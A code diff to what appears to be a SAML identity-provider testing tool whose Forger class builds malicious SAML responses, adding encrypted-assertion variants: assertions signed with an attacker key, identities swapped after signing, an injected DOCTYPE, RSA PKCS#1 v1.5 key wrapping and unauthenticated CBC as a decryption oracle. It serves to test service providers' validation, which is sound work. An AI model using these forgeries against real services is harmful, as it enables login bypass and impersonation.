@@ -72,6 +72,7 @@ DIGEST_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
 AES128_CBC = "http://www.w3.org/2001/04/xmlenc#aes128-cbc"
 REF_PROBE_BODY = b"latchkey saml-idp ref-probe\n"  # what GET /ref-probe serves (and what reference_uri_http digests)
 HOSTNAME_FILE = "/etc/hostname"
+INNER_DOCTYPE = b'<!DOCTYPE saml:Assertion [<!ENTITY x "y">]>\n'  # what encrypted_inner_dtd puts before the Assertion
 
 
 def q(prefix, local):
@@ -539,22 +540,30 @@ def sign(element, key, sha1=False, extra_uris=()):
     return sig
 
 
-def encrypt_assertion(response, assertion, sp_cert_pem, cipher):
+def encrypt_assertion(response, assertion, sp_cert_pem, cipher, key_transport=xmlsec.Transform.RSA_OAEP,
+                      plaintext=None):
     """Replace assertion by saml:EncryptedAssertion/xenc:EncryptedData (cipher = an xmlsec AES transform), the
-    session key in an xenc:EncryptedKey under RSA-OAEP-MGF1P (SHA-1) to the SP's certificate."""
+    session key in an xenc:EncryptedKey under key_transport (RSA_OAEP: RSA-OAEP-MGF1P with SHA-1; RSA_PKCS1:
+    RSA PKCS#1 v1.5) to the SP's certificate. plaintext (octets), when given, is encrypted instead of the
+    assertion's own serialization (the EncryptedData still says Type Element)."""
     enc = xmlsec.template.encrypted_data_create(response, cipher, type=xmlsec.EncryptionType.ELEMENT, ns="xenc")
     xmlsec.template.encrypted_data_ensure_cipher_value(enc)
     key_info = xmlsec.template.encrypted_data_ensure_key_info(enc, ns="ds")
-    enc_key = xmlsec.template.add_encrypted_key(key_info, xmlsec.Transform.RSA_OAEP)
+    enc_key = xmlsec.template.add_encrypted_key(key_info, key_transport)
     xmlsec.template.encrypted_data_ensure_cipher_value(enc_key)
     manager = xmlsec.KeysManager()
     manager.add_key(xmlsec.Key.from_memory(sp_cert_pem.encode(), xmlsec.KeyFormat.CERT_PEM, None))
     ctx = xmlsec.EncryptionContext(manager)
-    bits = {xmlsec.Transform.AES128: 128, xmlsec.Transform.AES128_GCM: 128, xmlsec.Transform.AES256_GCM: 256}
+    bits = {xmlsec.Transform.AES128: 128, xmlsec.Transform.AES256: 256, xmlsec.Transform.AES128_GCM: 128,
+            xmlsec.Transform.AES256_GCM: 256}
     ctx.key = xmlsec.Key.generate(xmlsec.KeyData.AES, bits[cipher], xmlsec.KeyDataType.SESSION)
     wrapper = etree.Element(q("saml", "EncryptedAssertion"))
     assertion.addprevious(wrapper)
-    wrapper.append(ctx.encrypt_xml(enc, assertion))
+    if plaintext is None:
+        wrapper.append(ctx.encrypt_xml(enc, assertion))
+    else:
+        wrapper.append(ctx.encrypt_binary(enc, plaintext))
+        assertion.getparent().remove(assertion)
     return wrapper
 
 
@@ -907,17 +916,26 @@ class Forger:
         return self._external_reference(f"file://{HOSTNAME_FILE}")
 
     # ---- encrypted assertions -------------------------------------------------------------------------------------
-    def _encrypted(self, cipher, sign_assertion=True, sign_response=True, flip=False):
+    def _encrypted(self, cipher, sign_assertion=True, sign_response=True, flip=False,
+                   key_transport=xmlsec.Transform.RSA_OAEP, assertion_key=None, before_encrypt=None, plaintext=None):
+        """The template with its Assertion encrypted to sp_cert_pem. In order: the Assertion signed (by
+        assertion_key, default the genuine key) unless sign_assertion is false; before_encrypt(assertion), a
+        change after signing; encryption with cipher, the session key wrapped by key_transport, of plaintext(
+        assertion) (octets) if given, else of the Assertion itself; flip XORs one byte of the ciphertext; the
+        Response signed last unless sign_response is false."""
         pem = self.sp_cert()
         a = build_assertion(self.shape)
         r = build_response(self.shape, [a])
         if sign_assertion:
-            sign(a, self.key)
-        wrapper = encrypt_assertion(r, a, pem, cipher)
+            sign(a, assertion_key or self.key)
+        if before_encrypt is not None:
+            before_encrypt(a)
+        wrapper = encrypt_assertion(r, a, pem, cipher, key_transport=key_transport,
+                                    plaintext=None if plaintext is None else plaintext(a))
         if flip:
             value = wrapper.find(f'{q("xenc", "EncryptedData")}/{q("xenc", "CipherData")}/{q("xenc", "CipherValue")}')
             raw = bytearray(base64.b64decode(value.text))
-            raw[len(raw) // 2] ^= 0x01  # after the IV, before the padded last block
+            raw[len(raw) // 2] ^= 0x01  # after the IV, before the last block (CBC padding) or the tag (GCM)
             value.text = base64.b64encode(bytes(raw)).decode()
         if sign_response:
             sign(r, self.key)
@@ -941,6 +959,45 @@ class Forger:
         the SP's public certificate can make this, encryption is not authentication."""
         return self._encrypted(xmlsec.Transform.AES128_GCM, sign_assertion=False, sign_response=False)
 
+    def encrypted_aes256_cbc(self):
+        """AES-256-CBC (the default of ADFS and Entra ID), RSA-OAEP-MGF1P; Assertion and Response signed."""
+        return self._encrypted(xmlsec.Transform.AES256)
+
+    def encrypted_assertion_signed_gcm(self):
+        """The signed Assertion encrypted with AES-128-GCM, the Response unsigned (as ADFS and Entra ID send)."""
+        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False)
+
+    def encrypted_assertion_signed_cbc(self):
+        """Same with AES-128-CBC: unauthenticated CBC in an unsigned envelope is a decryption oracle."""
+        return self._encrypted(xmlsec.Transform.AES128, sign_response=False)
+
+    def encrypted_inner_foreign_key(self):
+        """Response unsigned; the Assertion signed by the attacker key (its cert in KeyInfo), AES-128-GCM."""
+        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False,
+                               assertion_key=self.state.attacker_key)
+
+    def encrypted_inner_tampered(self):
+        """Response unsigned; the Assertion genuinely signed, then given the evil identity, then AES-128-GCM."""
+        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False,
+                               before_encrypt=lambda a: tamper_identity(a, self.evil))
+
+    def encrypted_gcm_tampered(self):
+        """Response unsigned, Assertion genuinely signed, AES-128-GCM, one ciphertext byte flipped (bad GCM tag)."""
+        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False, flip=True)
+
+    def encrypted_inner_dtd(self):
+        """Response unsigned; the AES-128-GCM plaintext is a DOCTYPE (internal subset) before a signed Assertion."""
+        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False,
+                               plaintext=lambda a: INNER_DOCTYPE + etree.tostring(copy.deepcopy(a)))
+
+    def encrypted_rsa15(self):
+        """Both signed, AES-128-GCM, the session key wrapped with RSA PKCS#1 v1.5 (xmlenc#rsa-1_5), not OAEP."""
+        return self._encrypted(xmlsec.Transform.AES128_GCM, key_transport=xmlsec.Transform.RSA_PKCS1)
+
+    def encrypted_signed_response_unsigned_assertion(self):
+        """Response signed, the Assertion not signed, AES-128-CBC: refused where the Assertion must be signed."""
+        return self._encrypted(xmlsec.Transform.AES128, sign_assertion=False)
+
 
 FORGE_KINDS = [
     "valid", "valid_assertion_signed", "valid_response_signed",
@@ -953,6 +1010,9 @@ FORGE_KINDS = [
     "reference_uri_http", "reference_uri_file",
     "encrypted_aes128_cbc", "encrypted_aes128_gcm", "encrypted_aes256_gcm", "encrypted_tampered",
     "encrypted_unsigned_response",
+    "encrypted_aes256_cbc", "encrypted_assertion_signed_gcm", "encrypted_assertion_signed_cbc",
+    "encrypted_inner_foreign_key", "encrypted_inner_tampered", "encrypted_gcm_tampered", "encrypted_inner_dtd",
+    "encrypted_rsa15", "encrypted_signed_response_unsigned_assertion",
 ]
 FORGE_LOCK = threading.Lock()  # python-xmlsec keys and IO callbacks are process-wide
 
